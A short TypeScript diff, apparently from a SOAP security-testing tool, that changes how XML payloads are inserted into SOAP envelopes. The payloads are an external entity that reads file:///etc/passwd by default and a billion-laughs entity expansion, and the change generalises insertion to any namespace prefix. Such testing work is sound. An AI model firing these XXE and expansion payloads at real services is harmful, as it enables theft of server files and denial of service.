@@ -25,8 +25,8 @@ const withDoctype = (text: string, { entities, url }: Extract<PlainEffect, { kin
   const declared =
     entities === 'expanding' ? laughs : `<!ENTITY e SYSTEM "${(url ?? 'file:///etc/passwd').replaceAll('"', '%22')}">`;
   return text
-    .replace('<soap:Envelope', () => `<!DOCTYPE soap:Envelope [${declared}]>\n<soap:Envelope`)
-    .replace('</soap:Body>', '&e;</soap:Body>');
+    .replace(/<((?:\w+:)?Envelope)\b/, (tag, name: string) => `<!DOCTYPE ${name} [${declared}]>\n${tag}`)
+    .replace(/<\/(?:\w+:)?Body>/, '&e;$&');
 };
 
 // Ten times ten times ... three characters: 3 GB. https://en.wikipedia.org/wiki/Billion_laughs_attack
